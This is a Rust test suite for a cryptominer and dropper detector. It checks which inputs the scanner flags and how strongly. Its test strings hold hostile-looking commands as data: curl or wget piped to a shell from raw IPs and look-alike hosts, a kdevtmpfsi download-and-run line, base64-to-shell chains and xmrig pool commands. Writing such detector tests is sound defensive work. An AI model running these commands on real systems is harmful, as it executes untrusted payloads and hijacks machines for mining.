    #[test]
    fn mining_words_are_weak() {
        for t in ["data mining", "text mining pipeline", "monero", "hashrate"] {
            let h = fam(t, Family::MiningWord);
            assert!(!h.is_empty(), "{t}");
            assert_eq!(max_strength(t), Some(Strength::Weak), "{t}: {:?}", hits(t));
        }
        assert!(fam("minerals determined", Family::MiningWord).is_empty());
    }

    #[test]
    fn benign_examples() {
        // The Argo whalesay example.
        let argo = "image: docker/whalesay\ncommand: [cowsay]\nargs: [\"hello world\"]";
        assert!(hits(argo).is_empty(), "{:?}", hits(argo));
        let tf = "image: tensorflow/tensorflow:latest-gpu\nargs: [\"python\", \"train.py\", \"--optimizer\", \"adam\"]";
        assert!(hits(tf).is_empty(), "{:?}", hits(tf));
        let uid = "uid: 3f2a6b1c-9d4e-4f5a-8b7c-1d2e3f4a5b6c";
        assert!(hits(uid).is_empty());
    }

    #[test]
    fn hits_sorted_and_complete() {
        let t = format!(
            "nohup ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u {XMR}.w1 -p x --donate-level 1 &"
        );
        let h = hits(&t);
        for f in [
            Family::MinerProgram,
            Family::StratumUrl,
            Family::PoolDomain,
            Family::PoolPort,
            Family::MoneroWallet,
            Family::MinerFlag,
            Family::GenericMinerFlag,
            Family::Tradecraft,
        ] {
            assert!(h.iter().any(|x| x.family == f), "{f:?}: {h:?}");
        }
        assert!(h.windows(2).all(|w| w[0].start <= w[1].start));
        for x in &h {
            assert_eq!(cut(&t[x.start..x.end]), x.matched);
        }
    }

    #[test]
    fn corpus_xmrig_configs() {
        let dir = std::path::Path::new("/work/shared/corpus/miners/xmrig-configs");
        let Ok(entries) = std::fs::read_dir(dir) else {
            eprintln!("skipped: {} not present", dir.display());
            return;
        };
        let mut n = 0;
        for e in entries.flatten() {
            let p = e.path();
            if p.extension().and_then(|x| x.to_str()) != Some("json") {
                continue;
            }
            let text = std::fs::read_to_string(&p).unwrap();
            let h = hits(&text);
            assert!(
                h.iter()
                    .any(|h| matches!(h.family, Family::MinerConfig | Family::MinerProgram)),
                "{}: {h:?}",
                p.display()
            );
            n += 1;
        }
        assert!(n > 0);
    }

    #[test]
    fn huge_single_line_is_linear() {
        let s = set();
        let start = std::time::Instant::now();
        let big = "A".repeat(10 << 20);
        let _ = s.scan_text(&big);
        let mixed: String =
            "xmrig -o pool.supportxmr.com:3333 -a rx/0 curl x | sh 0xdeadbeef mining "
                .repeat((10 << 20) / 72);
        let h = s.scan_text(&mixed);
        assert!(h.len() <= s.len() * MAX_HITS_PER_INDICATOR);
        let b58: String = "4AbCdEfGhJkLmNpQrStUvWxYz123456789".repeat((10 << 20) / 34);
        let _ = s.scan_text(&b58);
        eprintln!("10 MB scans took {:?}", start.elapsed());
    }

    #[test]
    fn never_panics_on_odd_input() {
        let s = set();
        for t in [
            "",
            "=",
            "é",
            "xmrig",
            "-",
            ":3333",
            "a:3333",
            "é:3333",
            "\u{0}\u{1}",
            "stratum+tcp://",
            "💥xmrig💥",
            "💥supportxmr.com",
        ] {
            let _ = s.scan_text(t);
            let _ = s.scan_image(t);
            let _ = s.ml_image(t);
        }
        let long = format!("{}{}", "é".repeat(100), "supportxmr.com");
        let h = s.scan_text(&long);
        assert_eq!(h[0].matched, "supportxmr.com");
    }

    fn programs(text: &str) -> Vec<Hit> {
        fam(text, Family::MinerProgram)
    }

    fn strongest_program(text: &str) -> Option<Strength> {
        programs(text).iter().map(|h| h.strength).max()
    }

    #[test]
    fn ambiguous_names_outside_command_position_are_weak() {
        for t in [
            "yolo train data=/cfg/data.yaml project=s3://models/excavator/",
            "python prep.py --out /data/excavator",
            "names: ['excavator', 'dump_truck', 'crane']",
            r#"{"classes": ["truck", "excavator"]}"#,
            "cp /data/excavator/x.png /out",
            "ls /opt/t-rex/t-rex/config",
            "echo ./t-rex",
            "labels: [t-rex]",
        ] {
            let h = programs(t);
            assert!(
                h.iter()
                    .all(|h| !h.executable && h.strength == Strength::Weak),
                "{t}: {h:?}"
            );
        }
        // Cisco TRex is not T-Rex: a name that goes on is another program.
        for t in [
            "cd /var/trex/v3.02 && ./t-rex-64 -i --cfg /etc/trex_cfg.yaml",
            "/bin/bash -c cd /opt && ./t-rex-64 -i",
            "excavator_v2 --x",
            "python excavator.py",
        ] {
            assert!(programs(t).is_empty(), "{t}: {:?}", programs(t));
        }
        // Command position, possibly as a path's last component.
        for t in [
            "excavator -p 3456",
            "x; excavator -p 1",
            "a || t-rex -a kawpow",
            "a | t-rex",
            "sleep 1 & t-rex",
            "echo $(t-rex --version)",
            "echo `t-rex`",
            "exec /opt/t-rex/t-rex -a kawpow",
            "cd /opt && ./t-rex -a x",
            "sudo -E LC_ALL=C ./t-rex",
            "bash -c \"excavator -p 1\"",
            "sh -c 't-rex -a kawpow'",
            "command: [sh, -c, t-rex]",
            "command: [\"/opt/t-rex/t-rex\"]",
            "command:\n  - /opt/t-rex/t-rex\n  - -a\n",
            "script: |\n  cd /opt\n  t-rex -a kawpow\n",
        ] {
            let h = programs(t);
            assert!(
                h.iter()
                    .any(|h| h.executable && h.strength == Strength::Strong),
                "{t}: {h:?}"
            );
        }
    }

    #[test]
    fn unambiguous_names_strong_only_when_run_or_downloaded() {
        // Detection rules and name lists: medium.
        for t in [
            "condition: spawned_process and proc.name in (xmrig, minerd, kdevtmpfsi)",
            "- list: miner_binaries\n  items: [xmrig, minerd]\n",
            "miner_names:\n  - xmrig\n  - kinsing\n",
            "name: xmrig",
            "values: [\"xmrig\"]",
            "cat /xmrig/etc/config.json",
            "cp a /usr/local/bin/xmrig",
            "grep xmrig /var/log/syslog",
        ] {
            let h = programs(t);
            assert!(!h.is_empty(), "{t}");
            assert!(
                h.iter()
                    .all(|h| h.strength == Strength::Medium && !h.executable),
                "{t}: {h:?}"
            );
        }
        for t in [
            "command: [\"xmrig\"]",
            "command:\n  - \"/xmrig/xmrig\"\n",
            "        command:\n          - \"/xmrig/xmrig\"\n",
            "./xmrig -c config.json",
            "  ./ethminer -U \\\n    -P stratums://x@y:5555 \\\n",
            "command: [\"xmrig\", \"--config=/etc/xmrig/config.json\"]",
            "exec nice -n 19 ionice -c3 /xmrig/build/xmrig \\\n  -o p:1",
            "wget -q -O /var/tmp/kdevtmpfsi http://203.0.113.99/kdevtmpfsi",
            "chmod +x /var/tmp/kdevtmpfsi && /var/tmp/kdevtmpfsi",
            "curl -L https://github.com/xmrig/xmrig/releases/download/v6.19.2/x.tar.gz",
            "tar xf xmrig-6.19.2-linux-x64.tar.gz",
            "wget -O ethminer.tar.gz https://h/e.tgz",
            "nohup kinsing &",
            "exec xmrig-notls",
        ] {
            assert_eq!(
                strongest_program(t),
                Some(Strength::Strong),
                "{t}: {:?}",
                programs(t)
            );
        }
        // The agent string stays strong wherever it is.
        let h = hits(r#""ua": "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2""#);
        assert!(h
            .iter()
            .any(|h| h.id == "agent-xmrig" && h.strength == Strength::Strong));
        // A kernel-thread disguise is still reported as such.
        assert!(!fam("/tmp/kdevtmpfsi", Family::KernelThreadName).is_empty());
    }

    #[test]
    fn coin_flag_is_generic() {
        for t in [
            "python forecast.py --coin eth --horizon 7",
            "coin: eth\ninterval: 1h",
            "--coin monero",
            r#""coin": "XMR""#,
        ] {
            let h = hits(t);
            assert!(
                h.iter().any(|h| h.id == "flag-coin"
                    && h.family == Family::GenericMinerFlag
                    && h.strength == Strength::Weak),
                "{t}: {h:?}"
            );
            assert!(
                h.iter().all(|h| h.strength < Strength::Strong),
                "{t}: {h:?}"
            );
        }
        assert!(hits("--coin ethics").iter().all(|h| h.id != "flag-coin"));
    }

    fn trade(t: &str) -> Vec<Hit> {
        fam(t, Family::Tradecraft)
    }

    fn max_trade(t: &str) -> Option<Strength> {
        trade(t).iter().map(|h| h.strength).max()
    }

    #[test]
    fn trusted_installers_are_weak() {
        for t in [
            "curl -LsSf https://astral.sh/uv/install.sh | sh",
            "curl -fsSL https://get.docker.com | sh",
            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
            "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash",
            "curl -sSL https://install.python-poetry.org | python3 -",
            "curl https://pyenv.run | bash",
            "curl -fsSL https://bun.sh/install | bash",
            "curl -fsSL https://deno.land/install.sh | sh",
            "curl -fsSL https://ollama.com/install.sh | sh",
            "curl -sfL https://get.k3s.io | sh -",
            "curl -s https://get.sdkman.io | bash",
            "curl https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash",
            "wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O /tmp/miniconda.sh && chmod +x /tmp/miniconda.sh && /tmp/miniconda.sh -b",
            "wget -q https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O /tmp/miniconda.sh\nchmod +x /tmp/miniconda.sh && /tmp/miniconda.sh -b -p /opt/conda",
            "cat > /tmp/run.sh <<EOS\npython train.py\nEOS\nchmod +x /tmp/run.sh\n/tmp/run.sh",
            "chmod +x /tmp/x",
        ] {
            assert!(!trade(t).is_empty(), "{t}");
            assert_eq!(max_trade(t), Some(Strength::Weak), "{t}: {:?}", trade(t));
        }
        // Raw IP, plain http, unknown or look-alike host, no URL: medium as before.
        for t in [
            "curl -fsSL http://astral.sh/uv/install.sh | sh",
            "curl -fsSL https://203.0.113.99/install.sh | sh",
            "curl -fsSL https://evil.example/install.sh | sh",
            "curl -fsSL https://astral.sh.evil.example/i.sh | sh",
            "curl -fsSL https://astral.sh@evil.example/i.sh | sh",
            "curl -fsSL https://get.docker.com.evil.example | sh",
            "curl -fsSL $URL | sh",
            "wget http://203.0.113.99/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
            "curl https://astral.sh/x -o /tmp/a; curl http://1.2.3.4/b -o /tmp/b; chmod +x /tmp/b",
            "chmod +x /dev/shm/x",
        ] {
            assert_eq!(max_trade(t), Some(Strength::Medium), "{t}: {:?}", trade(t));
        }
    }

    #[test]
    fn pipe_to_shell_variants() {
        for t in [
            "curl -fsSL http://1.2.3.4/init.sh | LC_ALL=C bash -s",
            "curl -s -L http://h/setup.sh | LC_ALL=en_US.UTF-8 bash -s 44AF",
            "curl http://1.2.3.4/i | env X=1 sh",
            "wget -qO- http://1.2.3.4/i | sudo bash",
            "wget -qO- http://1.2.3.4/i | sudo -E bash -s",
            "curl http://1.2.3.4/i | /bin/bash",
            "curl http://1.2.3.4/i | /usr/local/bin/bash -s -- a",
        ] {
            assert!(
                trade(t)
                    .iter()
                    .any(|h| h.id == "trade-curl-pipe-shell" && h.strength == Strength::Medium),
                "{t}: {:?}",
                hits(t)
            );
        }
        for t in [
            "curl http://1.2.3.4/i | jq .",
            "curl http://1.2.3.4/i | /tmp/x.sh",
            "curl http://1.2.3.4/i | shasum",
            "curl http://1.2.3.4/i | env | grep X",
        ] {
            assert!(
                trade(t).iter().all(|h| h.id != "trade-curl-pipe-shell"),
                "{t}: {:?}",
                hits(t)
            );
        }
        for t in [
            "echo H4sIAAAA | base64 -d | gunzip | sh",
            "echo H4sIAAAA | base64 -d | zcat | bash",
            "echo H4sIAAAA | base64 --decode | gzip -d | sh",
            "echo /Td6WFoA | base64 -d | xz -d | sh",
            "echo eA== | base64 -d | gunzip -c | sudo bash",
        ] {
            assert!(
                trade(t).iter().any(|h| h.id == "trade-base64-pipe-shell"),
                "{t}: {:?}",
                hits(t)
            );
        }
        for t in [
            "echo H4sI | base64 -d | gunzip > out.txt",
            "echo H4sI | base64 -d | gunzip | tar x",
        ] {
            assert!(
                trade(t).iter().all(|h| h.id != "trade-base64-pipe-shell"),
                "{t}: {:?}",
                hits(t)
            );
        }
    }

    #[test]
    fn wallet_with_suffixes() {
        for suffix in ["_rig01", ".worker", "+5000", "/worker", "", "\"", "'"] {
            for prefix in ["", "-u ", "\"", "user="] {
                let t = format!("{prefix}{XMR}{suffix}");
                let h = fam(&t, Family::MoneroWallet);
                assert_eq!(h.len(), 1, "{t}: {h:?}");
                assert_eq!(h[0].matched, XMR);
                assert_eq!(&t[h[0].start..h[0].end], XMR);
            }
        }
        for t in [
            format!("{XMR}Z"),
            format!("Z{XMR}"),
            format!("{XMR}abc_rig"),
        ] {
            assert!(fam(&t, Family::MoneroWallet).is_empty(), "{t}");
        }
    }

    #[test]
    fn minimal_xmrig_config() {
        for t in [
            r#"{"pools":[{"url":"203.0.113.99:3333","user":"rig1","pass":"x","keepalive":true,"tls":true}]}"#,
            r#"{"pools":[{"url":"203.0.113.99:443","user":"rig1","pass":"x"}],"background":true}"#,
            r#"{"pools":[{"url":"p:1","keepalive":true}]}"#,
            r#"{"pools":[{"url":"p:1","nicehash":false}]}"#,
            r#"{"pools":[{"url":"p:1","tls":true}]}"#,
        ] {
            let h = fam(t, Family::MinerConfig);
            assert_eq!(h.len(), 1, "{t}: {:?}", hits(t));
            assert_eq!(h[0].strength, Strength::Strong);
        }
        for t in [
            r#"{"pools":[{"url":"p:1","user":"a"}]}"#,
            r#"{"pools":[{"url":"http://a","weight":1}],"name":"lb"}"#,
            r#"{"servers":[{"url":"p:1","user":"a","pass":"b"}]}"#,
        ] {
            assert!(fam(t, Family::MinerConfig).is_empty(), "{t}");
        }
    }

    /// Found by fuzzing: a multi-byte character right before `://` in a download piped to a
    /// shell (the scheme scan sliced inside it).
    /// Patterns are compiled lazily: every one of them must compile within its limits.
    #[test]
    fn every_pattern_compiles() {
        for p in &set().patterns {
            compile(&p.regex.id, &p.regex.pattern).unwrap();
        }
    }

    #[test]
    fn multibyte_before_a_scheme() {
        let s = set();
        for t in [
            "curl -s \u{FFFD}http://203.0.113.9/i.sh | sh",
            "curl -s é://x | sh",
            "wget -qO- ✓https://astral.sh/uv/install.sh | sh",
        ] {
            let _ = s.scan_text(t);
        }
        // A token longer than the 512-byte bound around a name, cut inside a character.
        for pad in 0..4 {
            let t = format!("{}é{}/xmrig", "a".repeat(pad), "é".repeat(300));
            let _ = s.scan_text(&t);
        }
    }

    #[test]
    fn review_manifests() {
        // The look-alikes and droppers a review found (tests/fixtures/{look-alikes,droppers}).
        let fixtures =
            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures");
        let read = |f: &str| {
            let (dir, name) = match f.split_once('-') {
                Some(("fp", n)) => ("look-alikes", n),
                Some(("fn", n)) => ("droppers", n),
                _ => ("look-alikes", f),
            };
            std::fs::read_to_string(fixtures.join(dir).join(name)).ok()
        };
        let t = read("fp-excavator.yaml").expect("tests/fixtures/look-alikes");
        assert!(
            hits(&t).iter().all(|h| h.strength < Strength::Strong),
            "{:?}",
            hits(&t)
        );
        for f in [
            "fp-excavator2.yaml",
            "fp-trex.yaml",
            "fp-falco.yaml",
            "fp-coin.yaml",
        ] {
            let t = read(f).unwrap();
            assert!(
                hits(&t).iter().all(|h| h.strength < Strength::Strong),
                "{f}: {:?}",
                hits(&t)
            );
        }
        let t = read("fp-installers.yaml").unwrap();
        assert!(
            trade(&t).iter().all(|h| h.strength == Strength::Weak),
            "{:?}",
            trade(&t)
        );
        let t = read("fn-misc.yaml").unwrap();
        let h = hits(&t);
        assert!(h
            .iter()
            .any(|h| h.id == "prog-kinsing" && h.strength == Strength::Strong));
        assert!(h.iter().any(|h| h.id == "config-xmrig"));
        assert!(h.iter().any(|h| h.id == "trade-curl-pipe-shell"));
        let t = read("fn-wallet-us.yaml").unwrap();
        assert!(!fam(&t, Family::MoneroWallet).is_empty());
    }

    /// Real miner manifests and configs (and, beside them, compose and CloudFormation files)
    /// keep at least one strong hit: in their text, or in an `image:` they name. The
    /// NetworkPolicy only names `xmrig` as a label value (medium), and two files never had one.
    #[test]
    fn corpus_keeps_strong_hits() {
        let root =
            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/miners");
        if !root.is_dir() {
            eprintln!("skipped: {} not present", root.display());
            return;
        }
        let no_strong = [
            "cpfarhood-networkpolicy.yaml",
            "cpfarhood-kustomization.yaml",
            "kubernetes-goat-batch-check-job.yaml",
        ];
        let mut n = 0;
        for d in ["k8s-manifests", "xmrig-configs", "compose", "non-k8s"] {
            let Ok(entries) = std::fs::read_dir(root.join(d)) else {
                continue;
            };
            for e in entries.flatten() {
                let p = e.path();
                let name = p.file_name().and_then(|x| x.to_str()).unwrap_or("");
                if no_strong.contains(&name) {
                    continue;
                }
                let text = std::fs::read_to_string(&p).unwrap();
                let mut h = hits(&text);
                for line in text.lines() {
                    if let Some(img) = line.trim().strip_prefix("image:") {
                        h.extend(set().scan_image(img.trim().trim_matches(['"', '\''])));
                    }
                }
                assert!(
                    h.iter().any(|h| h.strength == Strength::Strong),
                    "{}: {h:?}",
                    p.display()
                );
                n += 1;
            }
        }
        assert!(n >= 15, "{n}");
        // The required shapes in them are strong program hits.
        let lw = std::fs::read_to_string(root.join("k8s-manifests/lacework-k8s-crypto-miner.yaml"));
        if let Ok(t) = lw {
            assert!(programs(&t)
                .iter()
                .any(|h| h.matched == "xmrig" && h.executable && h.strength == Strength::Strong));
        }
    }
}
